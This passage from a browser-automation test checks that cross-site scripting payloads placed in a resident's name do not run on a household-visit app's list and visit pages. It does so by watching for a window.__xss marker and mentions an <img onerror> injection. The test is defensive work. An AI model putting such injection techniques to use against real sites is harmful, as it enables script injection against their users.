                if path == "/app/":  # the list of assigned households, then one household's visit screen
                    page.wait_for_selector("body[data-ready='1']", timeout=15000)
                    assert shown in page.inner_text("#app-list"), page.inner_text("#app-list")[:500]
                    page.wait_for_timeout(300)
                    if page.evaluate("typeof window.__xss") != "undefined":
                        executed.append("/app/ list")
                    # the household whose resident is named with the payload (visited today, it keeps its place
                    # on the day's list, so it is not always the first)
                    page.locator("#app-list li[data-code='HX0'] a.stop").click()
                    page.wait_for_selector("#app-visit fieldset.person")
                page.wait_for_timeout(300)  # an <img onerror> fires after its load fails
                assert shown in page.inner_text("body"), (path, page.inner_text("body")[:500])
                if page.evaluate("typeof window.__xss") != "undefined":
                    executed.append(path)
                ctx.close()
        finally:
            b.close()
    measure.add("injection payloads tried", 0, executed=len(executed), **{"answers checked": len(visits) + 1})
    assert not executed
